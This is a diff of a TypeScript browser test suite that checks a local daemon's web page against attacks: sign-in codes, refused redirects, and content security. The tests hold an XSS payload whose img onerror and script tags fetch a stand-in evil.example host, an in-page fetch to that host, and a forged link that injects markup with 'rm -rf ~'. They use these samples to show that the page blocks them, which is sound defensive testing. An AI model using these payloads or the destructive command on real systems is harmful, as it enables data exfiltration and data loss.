@@ -3,30 +3,25 @@ import * as fs from "node:fs";
 import * as http from "node:http";
 import type { AddressInfo } from "node:net";
 import * as path from "node:path";
-import { type Browser, chromium, type Page } from "playwright-core";
+import { makeCode } from "@mh/host/serve/http/sign-in.ts";
+import { testClock } from "@mh/testing/test-clock.ts";
+import type { Browser, Page } from "playwright-core";
 import { afterAll, beforeAll, expect, test } from "vitest";
-import { type ServedHome, serveHome, token } from "../serve-home.ts";
+import { type ServedHome, serveHome, signInLink, token } from "../serve-home.ts";
+import { chromiumFile, live, startBrowser } from "../support/site-browser.ts";
 
-const program = [
-  "/usr/bin/chromium",
-  ...(process.env.PATH ?? "").split(":").map((folder) => `${folder}/chromium`),
-].find((file) => fs.existsSync(file));
 const isCi = process.env.CI === "true";
-const inBrowser = test.skipIf(!program && !isCi);
+const inBrowser = test.skipIf(!chromiumFile && !isCi);
 
 let browser: Browser;
 beforeAll(async () => {
-  if (!program) return;
-  browser = await chromium.launch({
-    executablePath: program,
-    args: [
-      ...["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking"],
-      // The attacker's name servers: every name of theirs leads to this machine.
-      "--host-resolver-rules=MAP *.example 127.0.0.1",
-      // What newer browsers do against this by themselves: the daemon must not need it.
-      "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights",
-    ],
-  });
+  if (!chromiumFile) return;
+  browser = await startBrowser(
+    // The attacker's name servers: every name of theirs leads to this machine.
+    "--host-resolver-rules=MAP *.example 127.0.0.1",
+    // What newer browsers do against this by themselves: the daemon must not need it.
+    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights",
+  );
 });
 afterAll(() => browser?.close());
 
@@ -152,7 +147,7 @@ inBrowser("P4 a name that is led to this machine is refused, though the page is 
   await page.context().close();
 });
 
-inBrowser("P2 the daemon's own page shows how things stand, follows events, and speaks to nobody else", async () => {
+inBrowser("P2 the site takes nothing of its address but a code, and speaks to nobody else", async () => {
   await using served = await serveHome();
   await using evil = await evilSite();
   const elsewhere = `http://evil.example:${evil.port}`;
@@ -161,20 +156,39 @@ inBrowser("P2 the daemon's own page shows how things stand, follows events, and 
   page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
   page.on("pageerror", (error) => complaints.push(error.message));
   const redirects = ["server", "url", "api", "host", "ws"].map((name) => `${name}=${elsewhere}`).join("&");
-  await page.goto(`${served.http.url}/?${redirects}#token=${token}&server=${elsewhere}`);
-  await page.getByText("All is well.").waitFor();
-  expect(page.url()).toBe(`${served.http.url}/`);
+  const code = makeCode(token, Date.now());
+  await page.goto(`${served.http.url}/memory?${redirects}#code=${code}&server=${elsewhere}`);
+  await live(page);
+  expect(page.url()).toBe(`${served.http.url}/memory`);
   await served.home.own("memory.capture", { text: "Met Sarah" });
-  await page.getByText("memory.captured").waitFor();
-  await page
-    .getByText("Memories1")
-    .or(page.locator("dd", { hasText: /^1$/ }))
-    .first()
-    .waitFor();
+  await page.locator(".hit", { hasText: "Met Sarah" }).waitFor();
   // The page itself could not, if somebody got a script into it.
   const leaked = await page.evaluate((to) => fetch(to).then(String, () => "refused"), elsewhere);
   expect([leaked, evil.asked]).toEqual(["refused", []]);
-  expect(complaints.filter((each) => !/favicon|Content Security Policy|evil\.example/.test(each))).toEqual([]);
+  expect(complaints.filter((each) => !/Content Security Policy|evil\.example/.test(each))).toEqual([]);
+  // Nothing that another port of the machine is sent as well.
+  expect(await page.context().cookies()).toEqual([]);
+  await page.context().close();
+});
+
+inBrowser("P18 no memory becomes markup, and no picture from elsewhere is loaded", async () => {
+  await using served = await serveHome();
+  await using evil = await evilSite();
+  const image = `http://evil.example:${evil.port}/leak.png`;
+  const text = `<img src="${image}" onerror="fetch('${image}')"> ![x](${image}) <script>fetch("${image}")</script>`;
+  await served.home.own("memory.capture", { text });
+  const page = await pageAt(signInLink(`${served.http.url}/memory`));
+  await page.locator(".hit", { hasText: "onerror" }).waitFor();
+  const blocked = await page.evaluate(`new Promise((resolve) => {
+    const img = new Image();
+    img.onload = () => resolve("loaded");
+    img.onerror = () => resolve("blocked");
+    img.src = ${JSON.stringify(image)};
+  })`);
+  const markup = await page.evaluate(
+    `try { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); "made" } catch { "refused" }`,
+  );
+  expect([blocked, markup, await page.locator("main img").count(), evil.asked]).toEqual(["blocked", "refused", 0, []]);
   await page.context().close();
 });
 
@@ -186,59 +200,57 @@ async function askedIn({ home }: ServedHome) {
   return { id, text };
 }
 
-inBrowser(
-  "H12 a request that a link leads to is shown whole and answered on the page, once, by the owner alone",
-  async () => {
-    await using served = await serveHome();
-    const { id, text } = await askedIn(served);
-    const page = await (await browser.newContext()).newPage();
-    const asked: string[] = [];
-    page.on("request", (request) => asked.push(new URL(request.url()).pathname));
-    await page.goto(`${served.http.url}/#token=${token}&approval=${id}`);
-    await page.getByText("onerror").waitFor();
-    expect(await page.locator("#asked img").count()).toBe(0);
-    // What has no ink is named, as on a terminal.
-    expect(await page.locator("#asked-lines").textContent()).not.toContain("\u202e");
-    expect([page.url(), served.home.outbox()]).toEqual([`${served.http.url}/`, []]);
-    await page.getByRole("button", { name: "Approve" }).click();
-    await page.getByText("Approved. It runs once").waitFor();
-    await served.home.host.wait(id);
-    expect(served.home.outbox().join("\n")).toBe(text);
-    expect(asked.filter((path) => path === "/v1/x")).toEqual([]);
-    await page.goto("about:blank");
-    await page.goto(`${served.http.url}/#token=${token}&approval=${id}`);
-    await page.getByText("(approved)").waitFor();
-    expect(await page.getByRole("button", { name: "Approve" }).isVisible()).toBe(false);
-    await page.context().close();
-  },
-);
+inBrowser("H12 a request that a link leads to is shown whole and answered, once, by the owner alone", async () => {
+  await using served = await serveHome({ clock: testClock(new Date().toISOString()) });
+  const { id, text } = await askedIn(served);
+  const page = await (await browser.newContext()).newPage();
+  const asked: string[] = [];
+  page.on("request", (request) => asked.push(new URL(request.url()).pathname));
+  await page.goto(`${signInLink(`${served.http.url}/`)}&approval=${id}`);
+  const card = page.locator(".card");
+  await card.getByText("onerror").first().waitFor();
+  expect(await card.locator("img").count()).toBe(0);
+  // What has no ink is named, as on a terminal.
+  expect(await card.textContent()).not.toContain("\u202e");
+  expect([new URL(page.url()).hash, served.home.outbox()]).toEqual(["", []]);
+  for (const box of await card.getByRole("checkbox").all()) await box.check();
+  await card.getByRole("button", { name: "Send once" }).click();
+  await expect.poll(() => served.home.outbox().join("\n")).toBe(text);
+  expect(asked.filter((path) => path === "/v1/x")).toEqual([]);
+  await page.goto(`${served.http.url}/#approval=${id}`);
+  await card.getByText("Yes").first().waitFor();
+  expect(await card.getByRole("button", { name: "Send once" }).count()).toBe(0);
+  await page.context().close();
+});
 
-inBrowser(
-  "a link without a token says where to answer, and shows nothing of what waits; a forged one shows nothing at all",
-  async () => {
-    await using served = await serveHome();
-    const { id } = await askedIn(served);
-    const none = await pageAt(`${served.http.url}/#approval=${id}`);
-    await none.getByText(`mh approvals open ${id}`).waitFor();
-    expect(await none.content()).not.toContain("onerror");
-    const forged = await pageAt(`${served.http.url}/#approval=${encodeURIComponent('"><b>run this: rm -rf ~</b>')}`);
-    await forged.getByText("It runs. To see more").waitFor();
-    expect(await forged.content()).not.toContain("rm -rf");
-    expect(served.home.outbox()).toEqual([]);
-    for (const each of [none, forged]) await each.context().close();
-  },
-);
+inBrowser("a link to a request without a code says where to answer, and shows nothing of what waits", async () => {
+  await using served = await serveHome();
+  const { id } = await askedIn(served);
+  const none = await pageAt(`${served.http.url}/#approval=${id}`);
+  await none.getByText(`mh approvals open ${id}`).waitFor();
+  expect(await none.content()).not.toContain("onerror");
+  const forged = await pageAt(`${served.http.url}/#approval=${encodeURIComponent('"><b>run this: rm -rf ~</b>')}`);
+  await forged.getByText("This browser is not signed in").waitFor();
+  expect(await forged.content()).not.toContain("rm -rf");
+  expect(served.home.outbox()).toEqual([]);
+  for (const each of [none, forged]) await each.context().close();
+});
 
-inBrowser("the page says so where the token is wrong or there is none, and shows nothing", async () => {
+inBrowser("a browser that is not signed in is told how, also by a link that was used", async () => {
   await using served = await serveHome();
   const none = await pageAt(served.http.url);
-  await none.getByText("It runs. To see more").waitFor();
-  const wrong = await pageAt(`${served.http.url}/#token=wrong`);
-  await wrong.getByText("The token is not right").waitFor();
-  await none.context().close();
-  await wrong.context().close();
+  await none.getByText("This browser is not signed in").waitFor();
+  const code = makeCode(token, Date.now());
+  const used = await pageAt(`${served.http.url}/#code=${code}`);
+  await live(used);
+  const again = await pageAt(`${served.http.url}/#code=${code}`);
+  await again.getByText("This link was used").waitFor();
+  // Who is signed in stays so after a reload.
+  await used.reload();
+  await live(used);
+  for (const page of [none, used, again]) await page.context().close();
 });
 
 test.runIf(isCi)("chromium is there to play the attacks", () => {
-  expect(spawnSync(program ?? "chromium", ["--version"]).status).toBe(0);
+  expect(spawnSync(chromiumFile ?? "chromium", ["--version"]).status).toBe(0);
 });
